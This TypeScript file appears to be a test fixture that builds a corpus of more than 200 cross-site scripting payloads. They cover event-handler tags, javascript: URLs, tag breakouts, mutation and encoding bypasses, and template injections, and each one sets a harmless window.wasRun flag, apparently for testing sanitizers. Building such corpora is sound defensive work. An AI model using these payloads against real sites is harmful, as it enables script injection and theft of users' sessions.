/** Sets `window.wasRun` when a browser runs it. */
const DEED = 'window.wasRun=1';

const EVENT_TAGS = [
  'img src=x',
  'svg',
  'body',
  'input autofocus',
  'details open',
  'video src=x',
  'audio src=x',
  'iframe',
  'marquee',
  'object data=x',
  'select autofocus',
  'textarea autofocus',
  'math',
  'style',
  'link rel=stylesheet href=x',
];
const EVENTS = [
  'onerror',
  'onload',
  'onfocus',
  'ontoggle',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'onstart',
];
const SCHEMES = [
  'javascript:',
  'JaVaScRiPt:',
  'java\tscript:',
  ' javascript:',
  'data:text/html,<script>',
  'vbscript:',
];
const HOLDERS = [
  'a href',
  'iframe src',
  'form action',
  'object data',
  'embed src',
  'base href',
  'svg><a xlink:href',
  'math href',
];
const BREAKOUTS = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  '-->',
  ']]>',
  '&quot;&gt;',
];

/** Over 200 texts that run a script wherever a text is taken for markup, an address or a template. */
export const SCRIPT_CORPUS: readonly string[] = [
  ...EVENT_TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} ${event}=${DEED}>`)),
  ...SCHEMES.flatMap((scheme) => HOLDERS.map((holder) => `<${holder}="${scheme}${DEED}">x`)),
  ...SCHEMES.map((scheme) => `${scheme}${DEED}`),
  ...BREAKOUTS.map((breakout) => `${breakout}<script>${DEED}</script>`),
  ...BREAKOUTS.map((breakout) => `${breakout}<img src=x onerror=${DEED}>`),
  `<scr<script>ipt>${DEED}</scr</script>ipt>`,
  `<img src=x onerror&#61;${DEED}>`,
  `&lt;img src=x onerror=${DEED}&gt;`,
  `\u003cimg src=x onerror=${DEED}\u003e`,
  `＜img src=x onerror=${DEED}＞`,
  `<svg><animate onbegin=${DEED} attributeName=x dur=1s>`,
  `<svg><script>${DEED}</script></svg>`,
  `<math><mi//xlink:href="data:x,<script>${DEED}</script>">`,
  `<noscript><p title="</noscript><img src=x onerror=${DEED}>">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${DEED}>`,
  `{{constructor.constructor('${DEED}')()}}`,
  `\${${DEED}}`,
  `<%= ${DEED} %>`,
  `[click](javascript:${DEED})`,
  `<style>@import 'javascript:${DEED}';</style>`,
  `<div style="background:url(javascript:${DEED})">`,
  `<meta http-equiv=refresh content="0;url=javascript:${DEED}">`,
];
